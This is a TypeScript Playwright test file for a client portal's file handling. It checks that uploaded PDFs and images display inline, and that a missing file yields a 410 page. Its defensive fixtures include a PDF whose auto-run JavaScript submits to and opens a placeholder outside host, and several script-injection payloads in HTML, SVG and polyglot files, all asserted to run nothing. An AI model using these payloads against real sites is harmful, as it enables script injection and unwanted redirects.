/// <reference lib="dom" />
import { rmSync } from "node:fs";
import type { Page } from "playwright-core";
import sharp from "sharp";
import { upload } from "../support/files";
import { ownService } from "../support/ground";
import { pdfOf } from "../support/pdf";
import { world } from "../support/world";
import { pathOf, type WorldFile } from "../support/world.files";
import { journeys } from "./browser";
import { expectGoodLooks } from "./looks";
import { heading } from "./portal";

/** A page all in red, that sends itself elsewhere and leads there, if it is let. */
const RED_PDF = pdfOf([
  "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\('https://elsewhere.example/a'\\);app.launchURL\\('https://elsewhere.example/b'\\);this.getURL\\('https://elsewhere.example/c'\\))>>>>",
  "<</Type/Pages/Kids[3 0 R]/Count 1>>",
  "<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Contents 4 0 R>>",
  "<</Length 31>>stream\n1 0 0 rg 0 0 400 400 re f      \nendstream",
]);

/** What a page has said aloud. */
function dialogsOf(page: Page): string[] {
  const said: string[] = [];
  page.on("dialog", (dialog) => {
    said.push(dialog.message());
    void dialog.dismiss();
  });
  return said;
}

/** Puts a frame into the page, as a preview is one. */
function frame(address: string): void {
  const made = Object.assign(document.createElement("iframe"), { src: address, id: "shown" });
  // Over the page, where it moves nothing.
  made.style.position = "fixed";
  made.style.inset = "0";
  document.body.append(made);
}

/** How much of a picture is red. */
async function rednessOf(picture: Buffer): Promise<number> {
  const { data, info } = await sharp(picture).removeAlpha().raw().toBuffer({ resolveWithObject: true });
  let red = 0;
  for (let at = 0; at < data.length; at += info.channels)
    if ((data[at] as number) > 200 && (data[at + 1] as number) < 60 && (data[at + 2] as number) < 60) red += 1;
  return red / (data.length / info.channels);
}

journeys("Files in a browser", (visit) => {
  test("a PDF and a picture show in the page, and a PDF leads nowhere", async () => {
    const picture = await sharp({ create: { width: 90, height: 40, channels: 3, background: "#3454d1" } })
      .png()
      .toBuffer();
    const { anna } = await world()
      .workspace()
      .client("anna")
      .file({ bytes: RED_PDF })
      .file({ name: "a.png", bytes: picture, mediaType: "image/png" })
      .build();
    const [pdf, image] = anna.files as [WorldFile, WorldFile];
    const { page, goto } = await visit(anna, { showsPdfs: true });
    await goto(`/p/${anna.slug}`);
    await page.getByRole("main").waitFor();
    await page.evaluate(frame, `/p/${anna.slug}/files/${pdf.id}?inline`);
    let seen = 0;
    while (seen < 0.1) seen = await rednessOf(await page.locator("#shown").screenshot());
    const width = await page.evaluate(async (src) => {
      const shown = Object.assign(new Image(), { src });
      await shown.decode();
      return shown.naturalWidth;
    }, `/p/${anna.slug}/files/${image.id}?inline`);
    expect([width, new URL(page.url()).pathname]).toEqual([90, `/p/${anna.slug}`]);
  });

  test.each([
    ["page.html", "<script>top.hasRun = true; alert(1)</script>"],
    ["drawing.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>top.hasRun = true; alert(1)</script></svg>'],
    ["page.xhtml", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
    ["both.html", `${RED_PDF.toString("latin1")}<script>alert(1)</script>`],
  ])("%s is saved under its name, and runs nothing, in a frame or by itself", async (name, content) => {
    const { studio } = await world().workspace().build();
    const id = await upload(studio.owner, Buffer.from(content), { name });
    const { page, goto } = await visit(studio.owner, { showsPdfs: true });
    const dialogs = dialogsOf(page);
    await goto("/admin");
    await page.getByRole("main").waitFor();
    const framed = page.waitForEvent("download");
    await page.evaluate(frame, `/admin/files/${id}?inline`);
    expect((await framed).suggestedFilename()).toBe(name);
    const alone = page.waitForEvent("download");
    await page.evaluate((address) => void location.assign(address), `/admin/files/${id}?inline`);
    expect((await alone).suggestedFilename()).toBe(name);
    expect([dialogs, await page.evaluate(() => "hasRun" in window)]).toEqual([[], false]);
  });

  test("a client who asks for a lost file is told so, and finds the way back", async () => {
    const { anna } = await world().workspace().client("anna").project().deliverable().build();
    const [deliverable] = anna.deliverables;
    const file = anna.files.find(({ id }) => id === deliverable?.fileId) as WorldFile;
    rmSync(pathOf(ownService(), file.storageKey));
    const { page, goto } = await visit(anna, { expects: [/status of 410/] });
    await goto(`/p/${anna.slug}/deliverables/${deliverable?.id}`);
    await page.getByRole("link", { name: /^Download/ }).click();
    await heading(page, "Not readable at the moment").waitFor();
    await page.getByText(`The file ${file.name} cannot be read at the moment.`).waitFor();
    await expectGoodLooks(page, "lost-file");
    await page.getByRole("link", { name: "Go to the overview" }).click();
    await heading(page, /Overview|Welcome/).waitFor();
  });
});
